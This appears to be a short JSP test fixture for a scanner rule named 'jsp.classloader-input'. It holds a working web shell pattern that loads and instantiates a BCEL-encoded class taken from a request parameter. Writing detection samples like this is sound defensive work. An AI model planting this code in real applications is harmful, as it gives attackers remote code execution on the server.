<%-- expect rule=jsp.classloader-input min=90 --%>
<%
    ClassLoader bl = new com.sun.org.apache.bcel.internal.util.ClassLoader();
    bl.loadClass(request.getParameter("n")).newInstance();
%>
